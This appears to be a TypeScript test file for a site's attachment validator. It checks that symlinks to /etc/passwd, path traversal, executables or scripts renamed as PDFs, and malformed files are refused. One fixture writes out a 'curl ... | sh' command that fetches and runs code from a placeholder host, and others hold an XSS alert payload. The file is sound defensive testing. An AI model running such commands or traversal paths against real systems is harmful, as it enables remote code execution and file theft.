// Attachments that try to smuggle something onto the site: links to the build machine's files,
// programs renamed as documents, files in disguise, folders, oversized files, formats whose content
// cannot be verified. The minimal fixture's 文书样本 T-001 attaches files/t-001.pdf.
import { copyFile, mkdir, rm, symlink, truncate } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { MAX_ATTACHMENT_BYTES } from '../attachment-files.ts';
import { replace } from '../test-tree.ts';
import type { CorpusCase } from './case.ts';

const FIXTURES = fileURLToPath(new URL('../../../../tests/fixtures/attachments/', import.meta.url));
const ENTRY = 'content/enforcement/templates/T-001.yaml';
const FILES = 'content/enforcement/templates/files';
const PDF = `${FILES}/t-001.pdf`;

/** The entry attaches `path` instead of files/t-001.pdf, which goes (a file nothing attaches is a problem of its own). */
const attachPath = (path: string) => ({ [ENTRY]: replace('file: files/t-001.pdf', `file: ${path}`), [PDF]: null });
const attach = (name: string) => attachPath(`files/${name}`);
/** Puts a fixture file from tests/fixtures/attachments at a path of the tree. */
const put = (fixture: string, path: string) => async (root: string) => {
  await copyFile(join(FIXTURES, fixture), join(root, path));
};

/** Replaces files/t-001.pdf with a symbolic link to `target`. */
const linkInstead = (target: string) => async (root: string) => {
  await rm(join(root, PDF));
  await symlink(target, join(root, PDF));
};

const LINE = `${ENTRY}:9 样本文件[1].文件（files[0].file） — `;
const LINKED = `${LINE}附件“files/t-001.pdf”是符号链接，不会发布 (期望 把文件本身放在 ${PDF}，不用符号链接)`;
const EXECUTABLE = '(期望 只附文档或图片（pdf/docx/xlsx/ofd/jpg/png），程序和脚本不会发布)';
const NOT_PDF = '(期望 文件内容与扩展名 .pdf 相符；文件若本是其他格式，改用它的扩展名（pdf/docx/xlsx/ofd/jpg/png 之一）)';

export const cases: CorpusCase[] = [
  { name: 'attachment is a symbolic link to /etc/passwd', edits: {}, setup: linkInstead('/etc/passwd'), refused: [LINKED] },
  { name: 'attachment is a relative symbolic link to another file inside content/', edits: {}, setup: linkInstead('../T-001.yaml'), refused: [LINKED] },
  {
    name: 'attachment folder is a symbolic link out of content/',
    edits: {},
    setup: async (root) => {
      await mkdir(join(root, 'outside'));
      await copyFile(join(FIXTURES, 'good.pdf'), join(root, 'outside/t-001.pdf'));
      await rm(join(root, FILES), { recursive: true });
      await symlink(join(root, 'outside'), join(root, FILES));
    },
    // The link is refused where it lies (no entry attaches the folder itself) and again for the entry attaching through it.
    refused: [
      `${FILES} — 是符号链接，不是文件本身 (期望 换成文件本身；content/ 中不能有链接)`,
      `${LINE}附件“files/t-001.pdf”所在的文件夹 ${FILES} 是符号链接，不会发布 (期望 把文件夹本身放在 ${FILES}，不用符号链接)`,
    ],
  },
  {
    name: 'ELF executable renamed .pdf',
    edits: {},
    setup: put('elf-renamed.pdf', PDF),
    refused: [`${LINE}附件“files/t-001.pdf”的内容不是 PDF（实为 ELF 可执行文件） ${EXECUTABLE}`],
  },
  {
    name: 'Windows executable renamed .docx',
    edits: attach('t-001.docx'),
    setup: put('exe-renamed.docx', `${FILES}/t-001.docx`),
    refused: [`${LINE}附件“files/t-001.docx”的内容不是 Word（实为 Windows 可执行文件 PE/MZ） ${EXECUTABLE}`],
  },
  {
    name: 'Mach-O executable renamed .png',
    edits: attach('t-001.png'),
    setup: put('macho-renamed.png', `${FILES}/t-001.png`),
    refused: [`${LINE}附件“files/t-001.png”的内容不是 PNG 图片（实为 Mach-O 可执行文件） ${EXECUTABLE}`],
  },
  {
    name: 'shell script renamed .pdf',
    edits: { [PDF]: '#!/bin/sh\ncurl -s http://example.invalid/x | sh\n' },
    refused: [`${LINE}附件“files/t-001.pdf”的内容不是 PDF（实为以 #! 开头的脚本） ${EXECUTABLE}`],
  },
  {
    name: 'PNG image renamed .pdf',
    edits: {},
    setup: put('png-renamed.pdf', PDF),
    refused: [`${LINE}附件“files/t-001.pdf”的内容不是 PDF（实为 PNG 图片） ${NOT_PDF}`],
  },
  {
    name: 'HTML page renamed .pdf',
    edits: { [PDF]: '<!doctype html><html><body><script>alert(1)</script></body></html>\n' },
    refused: [`${LINE}附件“files/t-001.pdf”的内容不是 PDF（无法识别文件类型） ${NOT_PDF}`],
  },
  {
    name: 'plain text renamed .pdf',
    edits: { [PDF]: '账号 admin 密码 123456\n' },
    refused: [`${LINE}附件“files/t-001.pdf”的内容不是 PDF（无法识别文件类型） ${NOT_PDF}`],
  },
  {
    name: 'empty attachment',
    edits: { [PDF]: '' },
    refused: [`${LINE}附件“files/t-001.pdf”是空文件 (期望 在 ${PDF} 放入完整的文件)`],
  },
  {
    name: 'Word file renamed .xlsx',
    edits: attach('t-001.xlsx'),
    setup: put('docx-renamed.xlsx', `${FILES}/t-001.xlsx`),
    refused: [`${LINE}附件“files/t-001.xlsx”的内容不是 Excel（实为 Word） (期望 文件内容与扩展名 .xlsx 相符；文件若本是其他格式，改用它的扩展名（pdf/docx/xlsx/ofd/jpg/png 之一）)`],
  },
  {
    name: 'ZIP without OFD.xml at its root renamed .ofd',
    edits: attach('t-001.ofd'),
    setup: put('nested-ofd-xml.ofd', `${FILES}/t-001.ofd`),
    refused: [`${LINE}附件“files/t-001.ofd”的内容不是 OFD（实为 ZIP 压缩包，根目录没有 OFD.xml） (期望 文件内容与扩展名 .ofd 相符；文件若本是其他格式，改用它的扩展名（pdf/docx/xlsx/ofd/jpg/png 之一）)`],
  },
  {
    name: 'attachment path is a folder',
    edits: attach('t-001-folder.pdf'),
    setup: async (root) => {
      await mkdir(join(root, `${FILES}/t-001-folder.pdf`));
    },
    refused: [`${LINE}附件“files/t-001-folder.pdf”是文件夹，不是文件 (期望 把文件放在 ${FILES}/t-001-folder.pdf，或改正路径)`],
  },
  {
    name: 'attachment over the size limit (sparse)',
    edits: {},
    setup: async (root) => {
      await truncate(join(root, PDF), MAX_ATTACHMENT_BYTES + 1024 * 1024);
    },
    refused: [`${LINE}附件“files/t-001.pdf”大小为 51.0 MB（53477376 字节），超过上限 50 MB（52428800 字节） (期望 不超过 50 MB：压缩图片、降低扫描分辨率或拆分为几个文件)`],
  },
  {
    name: 'attachment path climbs out of content/',
    edits: attachPath('../../../../etc/passwd.pdf'),
    refused: [`${LINE}值“../../../../etc/passwd.pdf”不符合要求 (期望 相对于本文件所在目录的路径，只用字母、数字、“-”“_”，扩展名为 pdf/docx/xlsx/ofd/jpg/png)`],
  },
  {
    name: 'ZIP archive attached',
    edits: attach('t-001.zip'),
    setup: put('good.docx', `${FILES}/t-001.zip`),
    refused: [`${LINE}值“files/t-001.zip”不符合要求 (期望 相对于本文件所在目录的路径，只用字母、数字、“-”“_”，扩展名为 pdf/docx/xlsx/ofd/jpg/png)`],
  },
  {
    name: 'old .doc format attached (its content cannot be verified)',
    edits: attach('t-001.doc'),
    setup: put('good.docx', `${FILES}/t-001.doc`),
    refused: [`${LINE}值“files/t-001.doc”不符合要求 (期望 相对于本文件所在目录的路径，只用字母、数字、“-”“_”，扩展名为 pdf/docx/xlsx/ofd/jpg/png)`],
  },
  {
    name: 'a real OFD (a ZIP with OFD.xml at its root)',
    edits: attach('t-001.ofd'),
    setup: put('good.ofd', `${FILES}/t-001.ofd`),
    acceptedBecause: '内容与扩展名相符的 OFD 文件，按原样发布',
  },
  {
    name: 'a real JPEG image',
    edits: attach('t-001.jpg'),
    setup: put('good.jpg', `${FILES}/t-001.jpg`),
    acceptedBecause: '内容与扩展名相符的 JPG 图片，按原样发布',
  },
];
